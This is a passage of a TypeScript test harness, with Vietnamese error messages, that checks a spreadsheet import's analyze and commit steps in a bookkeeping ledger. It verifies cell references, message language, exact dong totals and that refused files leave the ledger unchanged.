      for (const finding of preview.findings) {
        if (finding.cell !== null && !/^[A-Z]{1,3}\d+$/.test(finding.cell)) problems.push(`phát hiện trỏ tới ô không hợp lệ "${finding.cell}"`);
        if (!VIETNAMESE.test(finding.message)) problems.push(`phát hiện không phải tiếng Việt: ${finding.message}`);
      }
      if (preview.canCommit && !Number.isSafeInteger(preview.totalDong)) problems.push(`cho phép ghi một tổng ${preview.totalDong} không chính xác đến đồng`);
      if (preview.canCommit && file.expect === 'refused') problems.push('tệp phải bị từ chối nhưng import.analyze cho phép ghi');
      if (preview.canCommit) {
        const done = await withinTimeout('import.commit', () =>
          core.invokeAsync('import.commit', { fileName: file.name, base64, year: 2024, expectedSha256: preview.sha256, expectedTotalDong: preview.totalDong, expectedDigest: preview.digest }),
        );
        if (done.ok) {
          committed = true;
          if (!done.value.noop && rowCount(core, 'exchange_log') !== before.exchange + 1) problems.push('import.commit không ghi lịch sử nhập');
          // Into lines the book did not hold, the commit must write exactly the previewed total.
          if (!done.value.noop && preview.diff.every((d) => d.change === 'added' || d.change === 'kept')) {
            const written = (core.db.prepare('SELECT COALESCE(SUM(amount_dong), 0) AS total FROM assignment WHERE exchange_id = ?').get(done.value.exchangeId) as { total: number }).total;
            if (written !== preview.totalDong) problems.push(`import.commit ghi ${written} đồng, bản xem trước ${preview.totalDong} đồng`);
          }
        } else {
          problems.push(...errorProblems('import.commit', file, done.error));
          if (wrote()) problems.push('import.commit bị từ chối nhưng đã ghi vào sổ');
        }
      } else if (wrote()) {
        problems.push('tệp không được phép ghi nhưng sổ đã thay đổi');
      }
    }
  } catch (error) {
    problems.push(`ngoại lệ không được bắt: ${(error as Error).stack ?? String(error)}`);
  }
  return { analyzed, committed, problems, ms: performance.now() - started };
}
